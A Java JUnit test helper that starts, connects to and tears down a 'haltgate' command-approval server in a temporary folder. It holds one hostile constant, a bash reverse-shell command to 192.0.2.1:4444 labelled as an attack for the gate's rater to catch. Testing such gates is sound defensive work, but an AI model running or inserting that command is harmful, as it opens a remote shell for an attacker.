package dev.haltgate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/** A real gate in a folder of its own. */
final class GateServer implements AutoCloseable {
  /** Asks a human about everything. */
  static final String MANUAL = "{ \"approvals\": \"manual\" }";

  /** A command that the server's own rater calls an attack. */
  static final String ATTACK = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";

  final Path folder;
  private final Map<String, String> tokens = new HashMap<>();
  private String address = "127.0.0.1:0";
  private Process process;

  /** Starts a gate with a configuration: JSON text. Each of the roles gets a token. */
  GateServer(String configuration, String... roles) {
    try {
      folder = Files.createTempDirectory("haltgate-java-");
      Files.writeString(folder.resolve("haltgate.jsonc"), configuration);
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
    for (String role : roles) {
      tokens.put(role, token("create", "--name", role, "--role", role, "--project", "default"));
    }
    start();
  }

  /** Connects with the token of a role. */
  Haltgate connectAs(String role) {
    return Haltgate.builder(address).token(tokens.get(role)).build();
  }

  /** Runs {@code haltgate token} over {@code tokens.json}, and gives what it prints. */
  String token(String command, String... options) {
    List<String> words = new ArrayList<>(List.of("token", command, "--file", "tokens.json"));
    words.addAll(List.of(options));
    try {
      Process run = program(words).start();
      String printed = new String(run.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      end(run);
      assertEquals(0, run.exitValue(), () -> "haltgate " + String.join(" ", words));
      return printed.strip();
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
  }

  /** The program of the gate in its folder, without what would set it up from outside. */
  private ProcessBuilder program(List<String> words) {
    String binary = System.getenv("HALTGATE_BIN");
    assertTrue(
        binary != null && Files.isExecutable(Path.of(binary)),
        "HALTGATE_BIN must name a haltgate binary");
    List<String> command = new ArrayList<>(List.of(Path.of(binary).toAbsolutePath().toString()));
    command.addAll(words);
    ProcessBuilder builder = new ProcessBuilder(command).directory(folder.toFile());
    builder.environment().keySet().removeIf(name -> name.startsWith("HALTGATE_"));
    builder.redirectError(ProcessBuilder.Redirect.appendTo(folder.resolve("stderr").toFile()));
    return builder;
  }

  String address() {
    return address;
  }

  Haltgate connect() {
    return Haltgate.connect(address);
  }

  /** Starts the gate, again at the address that it had. */
  void start() {
    try {
      process = program(List.of("serve", "--listen", address)).start();
      BufferedReader output = process.inputReader(StandardCharsets.UTF_8);
      for (String line = output.readLine(); line != null; line = output.readLine()) {
        String[] words = line.strip().split("\\s+");
        if (words.length > 1 && words[0].equals("address")) {
          address = words[1];
          return;
        }
      }
      throw new AssertionError(
          "the server did not start: " + Files.readString(folder.resolve("stderr")));
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
  }

  /** Ends the gate at once, and waits until it is gone. */
  void kill() {
    end(process.destroyForcibly());
  }

  /** Asks the gate to end, and waits until it is gone. */
  void stop() {
    process.destroy();
    end(process);
  }

  private static void end(Process ended) {
    try {
      assertTrue(ended.waitFor(60, TimeUnit.SECONDS), "the server does not end");
    } catch (InterruptedException interrupted) {
      throw new AssertionError(interrupted);
    }
  }

  @Override
  public void close() throws IOException {
    kill();
    try (Stream<Path> files = Files.walk(folder)) {
      for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
        Files.delete(file);
      }
    }
    assertEquals(false, Files.exists(folder));
  }
}
